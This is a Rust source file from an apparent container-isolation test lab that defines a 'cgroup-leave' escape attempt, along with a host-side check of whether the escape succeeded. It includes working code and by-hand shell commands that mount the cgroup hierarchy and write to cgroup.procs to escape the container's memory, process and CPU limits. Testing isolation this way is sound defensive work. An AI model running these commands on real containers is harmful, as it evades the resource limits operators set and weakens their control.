//! cgroup-leave: move out of the control group, and so out of every limit.

use super::{Attack, Attempt, Measured, Need};
use crate::inside::cgroups;
use crate::{Host, Inside, Seen};
use nix::errno::Errno;
use nix::libc;

/// The attempt.
pub const ATTEMPT: Attempt = Attempt {
    id: "cgroup-leave",
    stake: "Every limit of the container: memory, processes and CPU time are counted by the group.",
    story: "The attacker mounts the hierarchy that counts processes, and writes 0, which means itself, to the list \
            of processes of its root. On the host that moves it out of its group and out of the group's limits. \
            In a cgroup namespace the root of such a mount is the container's own group, so leaving leads to where \
            it already is; and without CAP_SYS_ADMIN there is no mount. The host looks where the process is \
            afterwards.",
    by_hand: &[
        "mkdir -p /tmp/groups && mount -t cgroup -o pids groups /tmp/groups    # -t cgroup2 where there is no v1",
        "echo 0 > /tmp/groups/cgroup.procs",
    ],
    stopped_by: &["lab1-namespaces/cgroup-namespace"],
    after: &[],
    man: &["cgroups(7)", "cgroup_namespaces(7)"],
    letters: Measured { root: "E EBBBBBB", user: "E EBBBBBB", rootless: "I IIIIIII" },
    needs: &[Need::FreshHost, Need::Group],
    decisive: &[libc::SYS_mount, libc::SYS_openat, libc::SYS_pwrite64, libc::SYS_mkdirat],
    attack: Attack::Inside(inside),
    witness,
};

fn inside(me: &mut Inside) -> Result<(), Errno> {
    let place = cgroups::place();
    let (kind, options) = (me.given("cgroup").to_owned(), me.given("cgroup-options").to_owned());
    me.decisive(&format!(
        "mount(\"{place}\", \"{kind}\", \"{options}\"), write(\"{place}/cgroup.procs\", 0)"
    ));
    cgroups::mount_at(place, &kind, &options)?;
    match cgroups::write(place, "cgroup.procs", "0") {
        // A v2 group that gives controllers on holds no process: a new group beside the old one then.
        Err(Errno::EBUSY) => {
            cgroups::make(place, "out")?;
            cgroups::write(place, "out/cgroup.procs", "0")
        }
        other => other,
    }
}

fn witness(host: &Host) -> Seen {
    let (Some(before), Some(after)) = (&host.group.0.place, &host.group.1.place) else {
        return Seen::Nothing;
    };
    if !after.strip_prefix(before.as_str()).is_some_and(|rest| rest.is_empty() || rest.starts_with('/')) {
        return Seen::Effect("the attacker is no longer in the control group that the host gave it".into());
    }
    match host.call {
        Some(Some(0..)) => {
            Seen::Confined("after it had moved itself it was in the same group as before".into())
        }
        _ => Seen::Nothing,
    }
}
